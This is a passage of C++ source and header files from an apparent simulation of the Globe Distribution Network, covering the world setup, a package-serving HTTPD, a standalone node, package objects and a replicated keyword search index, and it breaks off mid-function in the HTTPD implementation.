#include "src/gdn/httpd.h"
#include "src/gdn/moderator.h"
#include "src/gdn/search.h"
#include "src/gls/deploy.h"
#include "src/gos/object_server.h"
#include "src/sec/secure_transport.h"
#include "src/sim/backend.h"  // GdnWorld is a composition root: it owns the sim stack

namespace globe::gdn {

struct GdnWorldConfig {
  // Topology: fanouts per level below the world root, then user hosts per leaf site.
  std::vector<int> fanouts = {2, 2, 2};
  int user_hosts_per_site = 2;

  // Figure-4 security: TLS-style channels plus role-based authorization everywhere.
  bool secure = false;
  // Confidentiality on top of authentication+integrity (the cost §6.3 questions).
  bool encrypt = false;

  // DNS/GNS parameters.
  int dns_secondaries = 1;
  dns::NamingAuthorityOptions naming_authority;
  uint32_t gns_record_ttl = 3600;

  // HTTPD behaviour.
  HttpdOptions httpd;

  // Root directory-node partitioning (1 = unpartitioned).
  int root_subnodes = 1;

  // Event-engine sharding: >1 runs the world on a ShardedSimulator with this
  // many per-continent event shards (continents round-robin onto shards, every
  // node runs on its continent's shard). 0 or 1 = the sequential Simulator.
  // Replay stays byte-identical run-to-run for a fixed seed and shard count.
  int event_shards = 0;
  // Lockstep window bound in microseconds; 0 = derive the minimum
  // cross-continent link latency from the topology (the safe maximum).
  double event_lookahead_us = 0;

  // Memory bound for every directory subnode (entries resident per subnode;
  // 0 = unbounded). See GlsOptions::store_capacity.
  size_t gls_store_capacity = 0;

  // GLS lookup caching on the hot read path: every directory subnode keeps a TTL'd
  // cache of the answers its descents returned, and the GDN-HTTPDs issue
  // cache-permitted lookups when binding to packages. Staleness is bounded by the
  // TTL plus delete-driven invalidation chains (see src/gls/cache.h). The TTL is
  // sized for actual content-churn staleness: RPC deadline events are erased from
  // the simulator queue when responses land, so a drained step costs round-trip
  // time and short TTLs behave the same in tests and benches as in a long run.
  bool gls_cache = false;
  sim::SimTime gls_cache_ttl = 30 * sim::kSecond;

  sim::NetworkOptions network;
  sec::CryptoProfile crypto;
  std::string zone = "gdn.cs.vu.nl";
  uint64_t seed = 0x91de;
};

class GdnWorld {
 public:
  explicit GdnWorld(GdnWorldConfig config = {});

  // Per-country service placement.
  struct Country {
    sim::DomainId domain = sim::kNoDomain;
    sim::NodeId gos_host = sim::kNoNode;  // also runs the colocated GDN-HTTPD
    sim::NodeId resolver_host = sim::kNoNode;
  };

  sim::EventEngine& simulator() { return *engine_; }
  // Non-null when config.event_shards > 1 (for window/violation statistics).
  sim::ShardedSimulator* sharded_engine() { return sharded_; }
  sim::Network& network() { return *network_; }
  sim::Transport* transport() { return transport_; }
  const sim::Topology& topology() const { return world_.topology; }
  sec::SecureTransport* secure_transport() { return secure_transport_.get(); }
  const GdnWorldConfig& config() const { return config_; }

  const std::vector<Country>& countries() const { return countries_; }
  const std::vector<sim::NodeId>& user_hosts() const { return world_.hosts; }
  gls::GlsDeployment& gls() { return *gls_; }
  dns::AuthoritativeServer* dns_primary() { return dns_primary_.get(); }
  dns::GnsNamingAuthority* naming_authority() { return naming_authority_.get(); }
  ModeratorTool* moderator() { return moderator_.get(); }
  const dso::ImplementationRepository& repository() const { return repository_; }

  gos::ObjectServer* GosOf(size_t country) { return goses_[country].get(); }
  GdnHttpd* HttpdOf(size_t country) { return httpds_[country].get(); }
  dns::CachingResolver* ResolverOf(size_t country) { return resolvers_[country].get(); }
  size_t num_countries() const { return countries_.size(); }

  // Country index of (the country domain containing) a node, or -1.
  int CountryOf(sim::NodeId node) const;
  // The HTTPD nearest to a user machine (its country's access point).
  GdnHttpd* NearestHttpd(sim::NodeId user);
  sim::Endpoint ResolverEndpointFor(sim::NodeId node) const;

  std::unique_ptr<Browser> MakeBrowser(sim::NodeId user);

  // Drains all pending simulator events.
  void Run() { engine_->Run(); }

  // ---- Synchronous conveniences (each drains the simulator) ----

  // Publishes a package through the moderator tool: scenario = master at
  // countries[master], secondaries at the other listed countries.
  Result<gls::ObjectId> PublishPackage(const std::string& globe_name,
                                       const std::map<std::string, Bytes>& files,
                                       gls::ProtocolId protocol, size_t master_country,
                                       std::vector<size_t> replica_countries = {},
                                       const std::string& description = "");

  // A user downloads one file over HTTP via their nearest GDN-HTTPD.
  Result<Bytes> DownloadFile(sim::NodeId user, const std::string& globe_name,
                             const std::string& file_path);

  // A user fetches the package listing HTML.
  Result<std::string> FetchListing(sim::NodeId user, const std::string& globe_name);

  // True if `node` hosts any GDN service (and thus holds a GDN-host credential).
  bool IsGdnHost(sim::NodeId node) const { return gdn_hosts_.count(node) > 0; }

  // Virtual-time duration of the last DownloadFile / FetchListing, measured from
  // request to response arrival.
  sim::SimTime last_op_duration() const { return last_op_duration_; }

  // ---- Attribute-based search (paper 8 future work) ----
  // The search index is itself a master/slave DSO with a replica on every country's
  // GOS; HTTPDs answer /search from their nearest replica.
  const gls::ObjectId& search_oid() const { return search_oid_; }
  // Adds/updates a package's entry (PublishPackage calls this automatically when a
  // description is supplied).
  Status RegisterInSearchIndex(const std::string& globe_name,
                               const std::string& description);
  Status UnregisterFromSearchIndex(const std::string& globe_name);
  // A user searches over HTTP via their nearest HTTPD; returns the result HTML.
  Result<std::string> SearchViaHttp(sim::NodeId user, const std::string& query);

  // ---- Adaptive per-object replication (ROADMAP item 4; paper §3.1) ----
  // Turns on the online replication controller: before every evaluation the
  // world aggregates each GOS's access telemetry into one global registry
  // (reads served by secondaries count, not just what the master sees), runs
  // the ctl cost model, and executes winning migrations live through the
  // GOSes — remove stale secondaries, SwitchProtocol at the master, create
  // secondaries under the new policy. Regions are country indices. Already-
  // published master replicas are tracked immediately; later PublishPackage
  // calls track automatically. The search index stays on its static policy.
  //
  // With `start_timer`, evaluation self-schedules every
  // config.evaluate_interval; the timer keeps the simulator queue non-empty,
  // so drive time with RunUntil (like fail-over leases). Without it, call
  // EvaluateAdaptiveNow() at your own cadence.
  ctl::ReplicationController* EnableAdaptiveReplication(
      ctl::ControllerConfig config = {}, bool start_timer = false);
  // One aggregate-and-evaluate pass; no-op before EnableAdaptiveReplication.
  void EvaluateAdaptiveNow();
  ctl::ReplicationController* controller() { return controller_.get(); }
  ctl::MetricsRegistry* world_metrics() { return world_metrics_.get(); }

  // The world's ctl::PolicyActuator implementation (public for tests; normal
  // use is through the controller). Aborts on the first failing step so the
  // controller keeps the old policy and retries a later tick.
  void ExecuteMigration(const gls::ObjectId& oid,
                        const ctl::PolicyDecision& decision,
                        std::function<void(Status)> done);

  // ---- Maintainer role (paper §2 future work) ----
  // Turns `node` into a maintainer machine: registers a kMaintainer principal,
  // installs its credential and admits it to mutual authentication with GDN hosts.
  // Returns the principal id to list in a ReplicationScenario. Secure worlds only.
  sec::PrincipalId AddMaintainerMachine(const std::string& name, sim::NodeId node);

  // Publishes like PublishPackage but with maintainers attached to the scenario.
  Result<gls::ObjectId> PublishPackageWithMaintainers(
      const std::string& globe_name, const std::map<std::string, Bytes>& files,
      gls::ProtocolId protocol, size_t master_country,
      std::vector<size_t> replica_countries, std::vector<sec::PrincipalId> maintainers);

 private:
  void SetupSecurity();
  void CredentialHost(sim::NodeId node, const std::string& name);
  // Homes `node` on its continent's event shard (no-op on a sequential engine).
  void AssignNodeShard(sim::NodeId node);

  GdnWorldConfig config_;
  sim::UniformWorld world_;
  std::unique_ptr<sim::EventEngine> engine_;
  sim::ShardedSimulator* sharded_ = nullptr;  // engine_ downcast when sharded
  std::map<sim::DomainId, size_t> continent_shard_;
  sec::KeyRegistry registry_;
  std::unique_ptr<sim::Network> network_;
  std::unique_ptr<sim::PlainTransport> plain_transport_;
  std::unique_ptr<sec::SecureTransport> secure_transport_;
  sim::Transport* transport_ = nullptr;

  dso::ImplementationRepository repository_;
  std::set<sim::NodeId> gdn_hosts_;
  // Non-host machines admitted to mutual authentication (maintainer machines).
  std::set<sim::NodeId> mutual_nodes_;
  std::unique_ptr<gls::GlsDeployment> gls_;

  dns::TsigKeyTable tsig_keys_;
  std::unique_ptr<dns::AuthoritativeServer> dns_primary_;
  std::vector<std::unique_ptr<dns::AuthoritativeServer>> dns_secondaries_;
  std::unique_ptr<dns::GnsNamingAuthority> naming_authority_;

  std::vector<Country> countries_;
  std::vector<std::unique_ptr<dns::CachingResolver>> resolvers_;
  std::vector<std::unique_ptr<gos::ObjectServer>> goses_;
  std::vector<std::unique_ptr<GdnHttpd>> httpds_;

  sim::NodeId moderator_host_ = sim::kNoNode;
  std::unique_ptr<ModeratorTool> moderator_;
  sim::SimTime last_op_duration_ = 0;

  gls::ObjectId search_oid_;
  std::unique_ptr<dso::RuntimeSystem> search_admin_runtime_;
  std::unique_ptr<SearchProxy> search_admin_;

  std::unique_ptr<ctl::MetricsRegistry> world_metrics_;
  std::unique_ptr<ctl::PolicyActuator> actuator_;
  std::unique_ptr<ctl::ReplicationController> controller_;
  sim::SimTime adaptive_interval_ = 0;

  void SetupSearchIndex();
  void ScheduleAdaptiveTick();
};

}  // namespace globe::gdn

#endif  // SRC_GDN_WORLD_H_
