// GDN-enabled HTTPD (paper §4): the user's access point to the GDN.
//
// "We use URLs that have embedded in them the name of a package DSO. The GDN-HTTPD
// extracts this object name and binds to the DSO. The HTTPD then invokes the
// appropriate method(s) ... For example, it could call listContents() to obtain the
// list of files contained in the package, which is subsequently reformatted into
// HTML. ... If the URL designates a particular file in the package, the HTTPD calls
// the getFileContents() method and sends back the returned content."
//
// URL scheme:
//   GET /packages<globe-name>                  -> HTML listing of the package
//   GET /packages<globe-name>/files/<path>     -> raw file bytes
//   GET /search?q=<terms>                      -> HTML attribute-based search results
//   GET /                                      -> HTML front page
//
// "The local representative that is installed in the GDN-HTTPD during binding may
// act as a replica for the DSO, in which case downloading a software package is
// fast": with `bind_as_replica` set, the HTTPD joins the DSO as a cache or slave
// (protocol permitting) and registers itself in the GLS so nearby clients are routed
// to it. The same class, configured on a user machine, is the "GDN-enabled proxy
// server" of §4.

#ifndef SRC_GDN_HTTPD_H_
#define SRC_GDN_HTTPD_H_

#include <map>
#include <memory>
#include <string>

#include "src/dns/gns.h"
#include "src/dso/runtime.h"
#include "src/gdn/package.h"
#include "src/gdn/search.h"
#include "src/http/http.h"

namespace globe::gdn {

struct HttpdOptions {
  // Join DSOs as a replica (cache/slave per protocol) instead of a thin proxy.
  bool bind_as_replica = true;
  // Publish installed replicas in the GLS (only sensible on GDN hosts, not on
  // user-machine proxy servers).
  bool register_replicas_in_gls = true;
  // Let this HTTPD's GLS lookups be answered from directory subnode caches
  // (TTL-bounded staleness in exchange for fewer directory hops per bind).
  bool allow_cached_gls_lookups = false;
};

struct HttpdStats {
  uint64_t requests = 0;
  uint64_t listings_served = 0;
  uint64_t files_served = 0;
  uint64_t bytes_served = 0;
  uint64_t errors = 0;
  uint64_t binds = 0;
  uint64_t bind_reuses = 0;
  // Bindings dropped and re-established after a proxy invoke failed — the
  // bound representative was a stale incarnation (its object migrated to
  // another protocol, or its master moved).
  uint64_t rebinds = 0;
};

class GdnHttpd {
 public:
  GdnHttpd(sim::Transport* transport, sim::NodeId node, std::string zone,
           sim::Endpoint naming_authority, sim::Endpoint resolver,
           gls::DirectoryRef leaf_directory, const dso::ImplementationRepository* repository,
           HttpdOptions options = {});
  ~GdnHttpd();

  sim::NodeId node() const { return node_; }
  const HttpdStats& stats() const { return stats_; }
  size_t bound_objects() const { return bound_.size(); }

  // Enables the /search endpoint: the OID of the GDN's search-index DSO (paper 8's
  // planned attribute-based search). The HTTPD binds to it on first use.
  void SetSearchIndex(const gls::ObjectId& oid) { search_oid_ = oid; }

 private:
  void OnRequest(const sim::TransportDelivery& delivery);
  void ServeRequest(const http::HttpRequest& request, const sim::Endpoint& client);
  void Reply(const sim::Endpoint& client, const http::HttpResponse& response);

  // Binds (or reuses a binding) and hands the proxy to `use`.
  using UseProxy = std::function<void(Result<PackageProxy*>)>;
  void WithPackage(const std::string& globe_name, UseProxy use);

  // Drops a stale binding properly: the bound representative goes back through
  // RuntimeSystem::Unbind (protocol shutdown + GLS deregistration) instead of
  // being silently destroyed — a replica installed via bind_as_replica would
  // otherwise leak its GLS registration and keep routing clients to a retired
  // incarnation. The unbind is deferred one event because the drop runs on the
  // stale proxy's own callback stack. `done` fires once the teardown finished:
  // a rebind issued earlier could resolve the stale registration itself.
  void DropBinding(const std::string& globe_name, std::function<void()> done);

  void ServeFrontPage(const sim::Endpoint& client);
  // `retried`: this request already dropped a stale binding and rebound once;
  // a second failure is served as an error instead of looping.
  void ServeListing(const std::string& globe_name, const sim::Endpoint& client,
                    bool retried = false);
  void ServeFile(const std::string& globe_name, const std::string& file_path,
                 const sim::Endpoint& client, bool retried = false);
  void ServeSearch(const std::string& query, const sim::Endpoint& client);

  sim::Transport* transport_;
  sim::NodeId node_;
  dns::GnsClient gns_;
  dso::RuntimeSystem runtime_;
  HttpdOptions options_;
  // One bound local representative per package name, reused across requests.
  std::map<std::string, std::unique_ptr<PackageProxy>> bound_;
  gls::ObjectId search_oid_;
  std::unique_ptr<SearchProxy> search_proxy_;
  HttpdStats stats_;
};

// A minimal web browser / HTTP client for the simulated world. Each Fetch uses its
// own ephemeral port, mirroring HTTP/1.0's connection-per-request.
class Browser {
 public:
  Browser(sim::Transport* transport, sim::NodeId node);

  using FetchCallback = std::function<void(Result<http::HttpResponse>)>;
  void Fetch(sim::NodeId httpd_node, std::string_view target, FetchCallback done,
             sim::SimTime timeout = 60 * sim::kSecond);

  sim::NodeId node() const { return node_; }

 private:
  sim::Transport* transport_;
  sim::NodeId node_;
  std::shared_ptr<bool> alive_;
};

}  // namespace globe::gdn

#endif  // SRC_GDN_HTTPD_H_
