// StandaloneGdnNode: one GDN machine assembled over any transport backend.
//
// Where GdnWorld builds the paper's whole planet inside the simulator, this
// builds the stack a single real deployment runs: a GLS directory subnode, the
// DNS primary + GNS naming authority, a caching resolver, one Globe Object
// Server with its colocated GDN-enabled HTTPD, and a moderator tool — all
// talking through one sim::Transport. Handed a net::SocketTransport it is a
// real server process (the `globe_node` example serves packages to curl);
// handed a sim::PlainTransport it is a deterministic single-node test world.
//
// Backend-agnostic by construction: this header pulls in the transport seam
// only, never sim::Simulator or sim::Network.

#ifndef SRC_GDN_STANDALONE_H_
#define SRC_GDN_STANDALONE_H_

#include <functional>
#include <map>
#include <memory>
#include <string>

#include "src/dns/gns.h"
#include "src/dns/resolver.h"
#include "src/dns/server.h"
#include "src/gdn/httpd.h"
#include "src/gdn/moderator.h"
#include "src/gls/deploy.h"
#include "src/gos/object_server.h"
#include "src/sim/topology.h"
#include "src/sim/transport.h"

namespace globe::gdn {

struct StandaloneNodeOptions {
  std::string zone = "gdn.cs.vu.nl";
  HttpdOptions httpd;
  uint32_t gns_record_ttl = 3600;
  dns::NamingAuthorityOptions naming_authority;
};

class StandaloneGdnNode {
 public:
  // Drives the transport's backend until `done` returns true (or the backend's
  // own notion of a drain when `done` is null — e.g. settle the naming flush).
  // Returns the final done() (true for a null done). The sim backend runs the
  // simulator; the socket backend polls its event loop under a wall-clock cap.
  using Pump = std::function<bool(const std::function<bool()>& done)>;

  // `on_node_created` fires for every logical NodeId the stack occupies, before
  // any traffic flows towards it — the socket backend calls Listen() there so
  // each logical node gets a real TCP listener and a loopback route.
  StandaloneGdnNode(sim::Transport* transport, StandaloneNodeOptions options = {},
                    std::function<void(sim::NodeId)> on_node_created = nullptr);

  sim::NodeId httpd_node() const { return gos_host_; }
  GdnHttpd* httpd() { return httpd_.get(); }
  gos::ObjectServer* gos() { return gos_.get(); }
  ModeratorTool* moderator() { return moderator_.get(); }
  dns::CachingResolver* resolver() { return resolver_.get(); }
  dns::GnsNamingAuthority* naming_authority() { return naming_authority_.get(); }
  gls::GlsDeployment& gls() { return *gls_; }
  const StandaloneNodeOptions& options() const { return options_; }

  // Publishes a package through the moderator tool (single replica on this
  // node's GOS) and flushes the naming batch so HTTP GETs resolve immediately.
  Result<gls::ObjectId> PublishPackage(const std::string& globe_name,
                                       const std::map<std::string, Bytes>& files,
                                       const Pump& pump);

 private:
  sim::NodeId AddHost(const std::string& name,
                      const std::function<void(sim::NodeId)>& on_node_created);

  StandaloneNodeOptions options_;
  sim::Transport* transport_;
  sim::Topology topology_;
  sim::DomainId domain_ = sim::kNoDomain;
  sec::KeyRegistry registry_;
  dso::ImplementationRepository repository_;

  std::unique_ptr<gls::GlsDeployment> gls_;
  dns::TsigKeyTable tsig_keys_;
  std::unique_ptr<dns::AuthoritativeServer> dns_primary_;
  std::unique_ptr<dns::GnsNamingAuthority> naming_authority_;
  std::unique_ptr<dns::CachingResolver> resolver_;
  sim::NodeId gos_host_ = sim::kNoNode;
  std::unique_ptr<gos::ObjectServer> gos_;
  std::unique_ptr<GdnHttpd> httpd_;
  sim::NodeId moderator_host_ = sim::kNoNode;
  std::unique_ptr<ModeratorTool> moderator_;
};

}  // namespace globe::gdn

#endif  // SRC_GDN_STANDALONE_H_
