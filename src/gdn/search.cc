#include "src/gdn/search.h"

#include <algorithm>
#include <cctype>

namespace globe::gdn {

std::vector<std::string> SearchIndexObject::Tokenize(std::string_view text) {
  std::vector<std::string> tokens;
  std::string current;
  for (char c : text) {
    if (std::isalnum(static_cast<unsigned char>(c))) {
      current.push_back(static_cast<char>(std::tolower(static_cast<unsigned char>(c))));
    } else if (!current.empty()) {
      tokens.push_back(std::move(current));
      current.clear();
    }
  }
  if (!current.empty()) {
    tokens.push_back(std::move(current));
  }
  return tokens;
}

void SearchIndexObject::IndexEntry(const std::string& globe_name,
                                   const std::string& description) {
  UnindexEntry(globe_name);
  descriptions_[globe_name] = description;
  for (const std::string& token : Tokenize(globe_name)) {
    keywords_[token].insert(globe_name);
  }
  for (const std::string& token : Tokenize(description)) {
    keywords_[token].insert(globe_name);
  }
}

void SearchIndexObject::UnindexEntry(const std::string& globe_name) {
  if (descriptions_.erase(globe_name) == 0) {
    return;
  }
  for (auto it = keywords_.begin(); it != keywords_.end();) {
    it->second.erase(globe_name);
    it = it->second.empty() ? keywords_.erase(it) : std::next(it);
  }
}

Result<Bytes> SearchIndexObject::Invoke(const dso::Invocation& invocation) {
  ByteReader r(invocation.args);

  if (invocation.method == "idx.register") {
    ASSIGN_OR_RETURN(std::string globe_name, r.ReadString());
    ASSIGN_OR_RETURN(std::string description, r.ReadString());
    if (globe_name.empty()) {
      return InvalidArgument("empty package name");
    }
    IndexEntry(globe_name, description);
    return Bytes{};
  }

  if (invocation.method == "idx.unregister") {
    ASSIGN_OR_RETURN(std::string globe_name, r.ReadString());
    UnindexEntry(globe_name);
    return Bytes{};
  }

  if (invocation.method == "idx.search") {
    ASSIGN_OR_RETURN(std::string query, r.ReadString());
    std::vector<std::string> terms = Tokenize(query);
    std::set<std::string> matches;
    bool first = true;
    for (const std::string& term : terms) {
      auto it = keywords_.find(term);
      std::set<std::string> hits =
          it == keywords_.end() ? std::set<std::string>{} : it->second;
      if (first) {
        matches = std::move(hits);
        first = false;
      } else {
        // AND semantics: intersect.
        std::set<std::string> intersection;
        std::set_intersection(matches.begin(), matches.end(), hits.begin(), hits.end(),
                              std::inserter(intersection, intersection.begin()));
        matches = std::move(intersection);
      }
      if (matches.empty()) {
        break;
      }
    }
    ByteWriter w;
    w.WriteVarint(matches.size());
    for (const std::string& name : matches) {
      w.WriteString(name);
      w.WriteString(descriptions_.at(name));
    }
    return w.Take();
  }

  if (invocation.method == "idx.size") {
    ByteWriter w;
    w.WriteU64(descriptions_.size());
    return w.Take();
  }

  return NotFound("search index has no method " + invocation.method);
}

Bytes SearchIndexObject::GetState() const {
  ByteWriter w;
  w.WriteVarint(descriptions_.size());
  for (const auto& [name, description] : descriptions_) {
    w.WriteString(name);
    w.WriteString(description);
  }
  return w.Take();
}

Status SearchIndexObject::SetState(ByteSpan state) {
  ByteReader r(state);
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  std::map<std::string, std::string> entries;
  for (uint64_t i = 0; i < count; ++i) {
    ASSIGN_OR_RETURN(std::string name, r.ReadString());
    ASSIGN_OR_RETURN(std::string description, r.ReadString());
    entries[name] = std::move(description);
  }
  descriptions_.clear();
  keywords_.clear();
  for (auto& [name, description] : entries) {
    IndexEntry(name, description);
  }
  return OkStatus();
}

std::unique_ptr<dso::SemanticsObject> SearchIndexObject::CloneEmpty() const {
  return std::make_unique<SearchIndexObject>();
}

namespace search {

dso::Invocation Register(std::string_view globe_name, std::string_view description) {
  ByteWriter w;
  w.WriteString(globe_name);
  w.WriteString(description);
  return dso::Invocation{"idx.register", w.Take(), /*read_only=*/false};
}

dso::Invocation Unregister(std::string_view globe_name) {
  ByteWriter w;
  w.WriteString(globe_name);
  return dso::Invocation{"idx.unregister", w.Take(), /*read_only=*/false};
}

dso::Invocation Query(std::string_view query) {
  ByteWriter w;
  w.WriteString(query);
  return dso::Invocation{"idx.search", w.Take(), /*read_only=*/true};
}

Result<std::vector<SearchMatch>> ParseMatches(ByteSpan data) {
  ByteReader r(data);
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  std::vector<SearchMatch> matches;
  matches.reserve(count);
  for (uint64_t i = 0; i < count; ++i) {
    SearchMatch match;
    ASSIGN_OR_RETURN(match.globe_name, r.ReadString());
    ASSIGN_OR_RETURN(match.description, r.ReadString());
    matches.push_back(std::move(match));
  }
  return matches;
}

}  // namespace search

void SearchProxy::Register(std::string_view globe_name, std::string_view description,
                           StatusCallback done) {
  dso::Invocation invocation = search::Register(globe_name, description);
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args), false,
                 [done = std::move(done)](Result<Bytes> result) {
                   done(result.ok() ? OkStatus() : result.status());
                 });
}

void SearchProxy::Unregister(std::string_view globe_name, StatusCallback done) {
  dso::Invocation invocation = search::Unregister(globe_name);
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args), false,
                 [done = std::move(done)](Result<Bytes> result) {
                   done(result.ok() ? OkStatus() : result.status());
                 });
}

void SearchProxy::Search(std::string_view query, MatchCallback done) {
  dso::Invocation invocation = search::Query(query);
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args), true,
                 [done = std::move(done)](Result<Bytes> result) {
                   if (!result.ok()) {
                     done(result.status());
                     return;
                   }
                   done(search::ParseMatches(*result));
                 });
}

}  // namespace globe::gdn
