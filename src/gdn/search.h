// Attribute-based search (paper §5, §8): "we would like the GDN to support some form
// of attribute-based search, such that people can look for a software package with
// some specific functionality" — listed in §8 as a planned functional addition.
//
// The index is itself a distributed shared object: SearchIndexObject is an ordinary
// semantics subobject, so the index replicates under any of the stock replication
// protocols — each country's HTTPD can hold a slave replica and answer /search
// queries locally. This is exactly the middleware-reuse story the object model
// promises: no new distribution code was written for this feature.
//
// Marshalled methods:
//   idx.register   {globe_name, description}  write  (tokenizes into keywords)
//   idx.unregister {globe_name}               write
//   idx.search     {query} -> matches         read   (AND over query terms)
//   idx.size       {} -> u64                  read

#ifndef SRC_GDN_SEARCH_H_
#define SRC_GDN_SEARCH_H_

#include <map>
#include <set>
#include <string>
#include <vector>

#include "src/dso/runtime.h"
#include "src/dso/subobjects.h"

namespace globe::gdn {

constexpr uint16_t kSearchIndexTypeId = 101;

struct SearchMatch {
  std::string globe_name;
  std::string description;

  bool operator==(const SearchMatch&) const = default;
};

class SearchIndexObject : public dso::SemanticsObject {
 public:
  SearchIndexObject() = default;

  Result<Bytes> Invoke(const dso::Invocation& invocation) override;
  Bytes GetState() const override;
  Status SetState(ByteSpan state) override;
  std::unique_ptr<dso::SemanticsObject> CloneEmpty() const override;
  uint16_t type_id() const override { return kSearchIndexTypeId; }

  size_t num_entries() const { return descriptions_.size(); }

  // Lowercased alphanumeric tokens of a text; the indexing unit.
  static std::vector<std::string> Tokenize(std::string_view text);

 private:
  void IndexEntry(const std::string& globe_name, const std::string& description);
  void UnindexEntry(const std::string& globe_name);

  std::map<std::string, std::string> descriptions_;        // name -> description
  std::map<std::string, std::set<std::string>> keywords_;  // token -> names
};

// Invocation builders / parsers.
namespace search {
dso::Invocation Register(std::string_view globe_name, std::string_view description);
dso::Invocation Unregister(std::string_view globe_name);
dso::Invocation Query(std::string_view query);
Result<std::vector<SearchMatch>> ParseMatches(ByteSpan data);
}  // namespace search

// Typed client over a bound search-index object.
class SearchProxy {
 public:
  explicit SearchProxy(std::unique_ptr<dso::BoundObject> bound) : bound_(std::move(bound)) {}

  using MatchCallback = std::function<void(Result<std::vector<SearchMatch>>)>;
  using StatusCallback = std::function<void(Status)>;

  void Register(std::string_view globe_name, std::string_view description,
                StatusCallback done);
  void Unregister(std::string_view globe_name, StatusCallback done);
  void Search(std::string_view query, MatchCallback done);

  dso::BoundObject* bound() { return bound_.get(); }

 private:
  std::unique_ptr<dso::BoundObject> bound_;
};

}  // namespace globe::gdn

#endif  // SRC_GDN_SEARCH_H_
