// The package DSO (paper §2, §3.1): "every software package is contained in a
// package DSO" — one or more files, a unique name, potentially very large.
//
// PackageObject is the semantics subobject: it implements the methods the paper
// names (addFile, listContents, getFileContents, §3.3/§4) on local state, with a
// SHA-256 digest per file so the integrity of distributed software is checkable
// end-to-end (§6.1). PackageProxy is the typed client-side wrapper over a bound
// local representative — the control subobject bridging typed calls to marshalled
// invocations.

#ifndef SRC_GDN_PACKAGE_H_
#define SRC_GDN_PACKAGE_H_

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "src/dso/runtime.h"
#include "src/dso/subobjects.h"

namespace globe::gdn {

constexpr uint16_t kPackageTypeId = 100;

struct FileInfo {
  std::string path;
  uint64_t size = 0;
  std::string sha256_hex;

  bool operator==(const FileInfo&) const = default;
};

class PackageObject : public dso::SemanticsObject {
 public:
  PackageObject() = default;

  // Marshalled methods:
  //   pkg.addFile         {path, content}         write
  //   pkg.removeFile      {path}                  write
  //   pkg.setDescription  {text}                  write
  //   pkg.listContents    {} -> vector<FileInfo>  read
  //   pkg.getFileContents {path} -> bytes         read
  //   pkg.getFileInfo     {path} -> FileInfo      read
  //   pkg.getDescription  {} -> text              read
  Result<Bytes> Invoke(const dso::Invocation& invocation) override;

  Bytes GetState() const override;
  Status SetState(ByteSpan state) override;
  std::unique_ptr<dso::SemanticsObject> CloneEmpty() const override;
  uint16_t type_id() const override { return kPackageTypeId; }

  size_t num_files() const { return files_.size(); }
  uint64_t total_bytes() const;

 private:
  struct FileEntry {
    Bytes content;
    std::string sha256_hex;
  };

  std::string description_;
  std::map<std::string, FileEntry> files_;
};

// Invocation builders and result parsers — shared by PackageProxy, the moderator
// tool and the GDN-HTTPD.
namespace pkg {
dso::Invocation AddFile(std::string_view path, ByteSpan content);
dso::Invocation RemoveFile(std::string_view path);
dso::Invocation SetDescription(std::string_view text);
dso::Invocation ListContents();
dso::Invocation GetFileContents(std::string_view path);
dso::Invocation GetFileInfo(std::string_view path);
dso::Invocation GetDescription();

Result<std::vector<FileInfo>> ParseListContents(ByteSpan data);
Result<FileInfo> ParseFileInfo(ByteSpan data);
}  // namespace pkg

// Typed asynchronous wrapper over a bound package object.
class PackageProxy {
 public:
  explicit PackageProxy(std::unique_ptr<dso::BoundObject> bound) : bound_(std::move(bound)) {}

  using StatusCallback = std::function<void(Status)>;
  using ListCallback = std::function<void(Result<std::vector<FileInfo>>)>;
  using ContentCallback = std::function<void(Result<Bytes>)>;
  using TextCallback = std::function<void(Result<std::string>)>;

  void AddFile(std::string_view path, ByteSpan content, StatusCallback done);
  void RemoveFile(std::string_view path, StatusCallback done);
  void SetDescription(std::string_view text, StatusCallback done);
  void ListContents(ListCallback done);
  void GetFileContents(std::string_view path, ContentCallback done);
  void GetDescription(TextCallback done);

  dso::BoundObject* bound() { return bound_.get(); }
  std::unique_ptr<dso::BoundObject> TakeBound() { return std::move(bound_); }

 private:
  void InvokeStatus(dso::Invocation invocation, StatusCallback done);

  std::unique_ptr<dso::BoundObject> bound_;
};

}  // namespace globe::gdn

#endif  // SRC_GDN_PACKAGE_H_
