#include "src/gdn/httpd.h"

#include "src/dso/protocols.h"
#include "src/util/log.h"
#include "src/util/strings.h"

namespace globe::gdn {

namespace {
constexpr char kPackagesPrefix[] = "/packages";
constexpr char kFilesSeparator[] = "/files/";

std::string HtmlEscape(std::string_view s) {
  std::string out;
  for (char c : s) {
    switch (c) {
      case '<':
        out += "&lt;";
        break;
      case '>':
        out += "&gt;";
        break;
      case '&':
        out += "&amp;";
        break;
      default:
        out.push_back(c);
    }
  }
  return out;
}
}  // namespace

GdnHttpd::GdnHttpd(sim::Transport* transport, sim::NodeId node, std::string zone,
                   sim::Endpoint naming_authority, sim::Endpoint resolver,
                   gls::DirectoryRef leaf_directory,
                   const dso::ImplementationRepository* repository, HttpdOptions options)
    : transport_(transport),
      node_(node),
      gns_(transport, node, std::move(zone), naming_authority, resolver),
      runtime_(transport, node, std::move(leaf_directory), repository, &gns_),
      options_(options) {
  runtime_.gls()->set_allow_cached(options_.allow_cached_gls_lookups);
  transport_->RegisterPort(node_, sim::kPortHttp,
                           [this](const sim::TransportDelivery& d) { OnRequest(d); });
}

GdnHttpd::~GdnHttpd() { transport_->UnregisterPort(node_, sim::kPortHttp); }

void GdnHttpd::OnRequest(const sim::TransportDelivery& delivery) {
  if (delivery.transport_error) {
    return;  // a client hung up; nothing to serve
  }
  ++stats_.requests;
  auto request = http::HttpRequest::Parse(delivery.payload);
  if (!request.ok()) {
    ++stats_.errors;
    Reply(delivery.src,
          http::MakeErrorResponse(400, "Bad Request", "unparseable request"));
    return;
  }
  ServeRequest(*request, delivery.src);
}

void GdnHttpd::Reply(const sim::Endpoint& client, const http::HttpResponse& response) {
  transport_->Send({node_, sim::kPortHttp}, client, response.Serialize());
}

void GdnHttpd::ServeRequest(const http::HttpRequest& request,
                            const sim::Endpoint& client) {
  if (request.method != "GET") {
    ++stats_.errors;
    Reply(client, http::MakeErrorResponse(400, "Bad Request", "only GET is supported"));
    return;
  }
  auto decoded = http::UrlDecode(request.Path());
  if (!decoded.ok()) {
